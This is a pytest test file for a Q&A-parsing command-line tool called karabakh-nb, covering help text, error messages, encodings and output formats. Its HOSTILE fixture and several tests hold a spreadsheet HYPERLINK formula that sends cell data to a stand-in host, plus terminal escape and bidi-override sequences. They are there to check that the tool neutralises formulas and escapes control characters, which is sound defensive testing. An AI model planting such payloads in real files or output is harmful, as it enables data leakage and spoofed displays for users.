import csv
import io
import json
import subprocess
import sys

import pytest

from karabakh_nb.cli import build_parser, main
from karabakh_nb.errors import MSG_NO_MEMORY

from .conftest import SEED

COMMANDS = ["parse", "facts", "check", "render", "evaluate", "export"]


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help_with_an_example(capsys, command):
    with pytest.raises(SystemExit) as info:
        main([command, "--help"])
    out = capsys.readouterr().out
    assert info.value.code == 0
    assert out.startswith(f"usage: karabakh-nb {command}")
    assert f"karabakh-nb {command}" in out.split("examples:")[1]


def test_top_level_help_lists_every_command(capsys):
    with pytest.raises(SystemExit):
        main(["--help"])
    out = capsys.readouterr().out
    for command in COMMANDS:
        assert command in out


def test_parse_json_records(capsys):
    code, out, err = run(capsys, "parse", str(SEED), "--format", "json")
    assert code == 0
    assert err == ""
    rows = json.loads(out)
    assert len(rows) == 19
    assert list(rows[0])[:8] == [
        "id",
        "source",
        "line",
        "question",
        "answer",
        "snippet",
        "raw",
        "flags",
    ]
    assert rows[-1]["answer"] is None
    assert rows[-1]["flags"] == ["unanswered"]
    assert rows[16]["flags"] == ["snippet_header", "boilerplate"]


def test_parse_csv_joins_lists(capsys):
    code, out, _ = run(capsys, "parse", str(SEED), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0
    assert len(rows) == 19
    assert rows[16]["flags"] == "snippet_header;boilerplate"
    assert rows[-1]["answer"] == ""


def test_parse_table_default(capsys):
    code, out, _ = run(capsys, "parse")
    lines = out.splitlines()
    assert code == 0
    assert lines[0].split() == ["id", "question", "answer", "snippet", "flags"]
    assert lines[-1] == "(19 rows)"


def test_parse_encoding_flag(capsys, write):
    path = write("l.txt", "Who?\n\nCaf\xe9.\n", encoding="latin-1")
    code, out, _ = run(capsys, "parse", str(path), "--encoding", "latin-1", "--format", "json")
    assert code == 0
    assert json.loads(out)[0]["answer"] == "Café."


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["parse", "missing.txt"], "karabakh-nb: error: missing.txt: no such file or folder"),
        (["parse", "--format", "xml"], "karabakh-nb: error: argument --format: invalid choice"),
        (["facts", "--kind", "weather"], "karabakh-nb: error: argument --kind: invalid choice"),
        (
            ["facts", "--kind", "timeline", "--as-of", "yesterday"],
            "karabakh-nb: error: argument --as-of: invalid date 'yesterday'",
        ),
        (["frobnicate"], "karabakh-nb: error: argument COMMAND: invalid choice"),
    ],
)
def test_usage_and_input_errors_are_one_line_exit_2(capsys, argv, expected):
    try:
        code = main(argv)
    except SystemExit as stop:  # argparse exits for usage errors
        code = stop.code
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith(expected)
    assert err.count("\n") == 1
    assert "Traceback" not in err


def test_bad_encoding_names_file_and_line(capsys, write):
    path = write("l.txt", "Who?\n\nCaf\xe9.\n", encoding="latin-1")
    code, _, err = run(capsys, "parse", str(path))
    assert code == 2
    assert err == (
        f"karabakh-nb: error: {path}:3: cannot decode byte 0xe9 as utf-8; try "
        "--encoding latin-1 (or cp1252, utf-16)\n"
    )


def test_python_dash_m_runs_the_same_cli(tmp_path):
    bad = tmp_path / "empty.txt"
    bad.write_bytes(b"")
    done = subprocess.run(
        [sys.executable, "-m", "karabakh_nb", "parse", str(bad)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 2
    assert done.stdout == ""
    assert (
        done.stderr == f"karabakh-nb: error: {bad}: file is empty; pass a Q&A text file "
        "with questions and answers\n"
    )


def test_parser_knows_the_contract_commands():
    parser = build_parser()
    choices = parser._subparsers._group_actions[0].choices
    assert sorted(choices) == sorted(COMMANDS)


HOSTILE = (
    "Who reported it?\n\n"
    '=HYPERLINK("http://x.example/?"&A1,"click") said +1 and @SUM(1) '
    "and \x1b]8;;http://x.example/\x07link\x1b]8;;\x07 in \x1b[31mred\x1b[0m\x9b2J\x7f.\n\n"
    "How many?\n\n-5 of them, reported as -5.\n"
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+CMD()", "'+CMD()"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-1.2e5", "-1.2e5"),
        ("Armenia", "Armenia"),
        ("", ""),
        (["=a", "b"], "'=a;b"),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(text, expected):
    import pandas as pd

    from karabakh_nb.cli import format_table

    frame = pd.DataFrame({"cell": [text], "n": [-5]})
    rows = list(csv.reader(io.StringIO(format_table(frame, "csv"))))
    assert rows[1] == [expected, "-5"]  # a number is never a formula


def test_csv_output_neutralises_formulas_json_stays_exact(capsys, write):
    path = write("h.txt", HOSTILE)
    _, out, _ = run(capsys, "parse", str(path), "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows[0]["answer"].startswith("'=HYPERLINK(")
    assert rows[1]["answer"] == "'-5 of them, reported as -5."
    _, out, _ = run(capsys, "parse", str(path), "--format", "json")
    assert json.loads(out)[0]["answer"].startswith('=HYPERLINK("http://x.example/?"')
    assert "\x1b[31mred" in json.loads(out)[0]["answer"]


def test_table_output_shows_control_characters_escaped(capsys, write):
    text = "Why?\n\n\x1b]8;;http://x.example/\x07\x1b[31mred\x9b2J\x7f \u202eit\u202c.\n"
    code, out, _ = run(capsys, "parse", str(write("h.txt", HOSTILE + "\n" + text)))
    assert code == 0
    assert not any(c in out for c in "\x1b\x07\x9b\x7f\u202e")
    assert "\\x1b]8;;http://x.example/\\x07\\x1b[31mred\\x9b2J\\x7f \\u202eit" in out


def test_error_lines_show_control_characters_escaped(capsys, tmp_path):
    code, _, err = run(capsys, "parse", str(tmp_path / "a\x1b]0;x\x07b.txt"))
    assert code == 2
    assert "\x1b" not in err
    assert "a\\x1b]0;x\\x07b.txt: no such file" in err
    assert err.count("\n") == 1


@pytest.mark.parametrize("codec", ["rot13", "base64", "hex", "zlib", "punycode", "undefined"])
def test_encoding_that_is_not_for_text_is_a_one_line_usage_error(capsys, codec):
    code, _, err = run(capsys, "parse", str(SEED), "--encoding", codec)
    assert code == 2
    assert err == (
        f"karabakh-nb: error: {codec!r} is not an encoding of text files; "
        "try utf-8, utf-16, latin-1 or cp1252\n"
    )


def test_same_file_names_in_two_folders_get_distinct_ids_and_check_runs(capsys, tmp_path):
    for year, answer in (("2020", "Armenia."), ("2021", "Azerbaijan.")):
        (tmp_path / year).mkdir()
        (tmp_path / year / "notes.txt").write_text(f"Who won?\n\n{answer}\n\nWho lost?\n")
    paths = [str(tmp_path / "2020" / "notes.txt"), str(tmp_path / "2021" / "notes.txt")]
    code, out, _ = run(capsys, "parse", *paths, "--format", "json")
    assert code == 0
    assert [(r["id"], r["source"]) for r in json.loads(out)] == [
        ("2020/notes:1", "2020/notes.txt"),
        ("2020/notes:5", "2020/notes.txt"),
        ("2021/notes:1", "2021/notes.txt"),
        ("2021/notes:5", "2021/notes.txt"),
    ]
    code, out, err = run(capsys, "check", *paths, "--format", "json")
    assert (code, err) == (0, "")
    assert {r["qa_id"] for r in json.loads(out) if r["kind"] == "unanswered"} == {
        "2020/notes:5",
        "2021/notes:5",
    }


def test_one_empty_file_in_a_folder_is_skipped_with_a_finding(capsys, tmp_path):
    (tmp_path / "a.txt").write_text("Who won?\n\nArmenia.\n")
    (tmp_path / "b.txt").write_bytes(b"")
    code, out, _ = run(capsys, "parse", str(tmp_path), "--format", "json")
    assert code == 0
    assert [r["id"] for r in json.loads(out)] == ["a:1"]
    code, out, _ = run(capsys, "check", str(tmp_path), "--format", "json")
    [skipped] = [r for r in json.loads(out) if r["kind"] == "skipped_file"]
    assert (skipped["qa_id"], skipped["source"]) == ("b:1", "b.txt")
    assert "file is empty" in skipped["message"]


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_AS caps memory on Linux")
def test_a_file_too_big_for_the_memory_cap_is_a_one_line_error(tmp_path):
    # Raised MemoryError with a traceback (issue 10: a 500 MB file under a memory cap).
    import resource

    big = tmp_path / "big.txt"
    block = SEED.read_text(encoding="utf-8") + "\n\n"
    with big.open("w", encoding="utf-8") as out:
        out.writelines(block for _ in range(9000))  # about 50 MB

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (400 << 20, 400 << 20))

    argv = [sys.executable, "-m", "karabakh_nb", "parse", "--format", "csv"]
    small = subprocess.run([*argv, str(SEED)], capture_output=True, text=True, preexec_fn=cap)
    if small.returncode != 0:
        pytest.skip("this interpreter needs more than the cap to start")
    done = subprocess.run([*argv, str(big)], capture_output=True, text=True, preexec_fn=cap)
    assert done.returncode == 1
    assert done.stdout == ""
    assert done.stderr == f"karabakh-nb: error: {MSG_NO_MEMORY}\n"


def test_a_utf8_file_read_in_a_single_byte_encoding_is_noted_on_one_line(tmp_path, capsys):
    path = tmp_path / "war.txt"
    path.write_text("What happened?\n\nFreedonia fought from 1854–1856.\n", encoding="utf-8")
    assert main(["parse", str(path), "--encoding", "latin-1"]) == 0
    err = capsys.readouterr().err
    assert err.startswith(f"karabakh-nb: note: {path}: the file is valid UTF-8 but is read as ")
    assert err.count("\n") == 1
    assert "leave out --encoding" in err
    assert main(["parse", str(path)]) == 0  # read as UTF-8: nothing to note
    assert capsys.readouterr().err == ""
